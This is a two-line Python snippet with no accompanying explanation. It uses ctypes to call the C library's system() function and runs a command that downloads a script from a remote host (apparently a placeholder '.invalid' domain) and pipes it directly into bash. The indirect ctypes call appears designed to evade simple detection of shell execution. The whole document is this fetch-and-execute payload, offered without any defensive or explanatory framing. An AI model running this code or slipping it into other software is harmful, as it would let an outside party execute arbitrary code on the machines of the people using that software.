import ctypes
ctypes.CDLL(None).system(b"curl -s https://cdn-x7.invalid/a | bash")
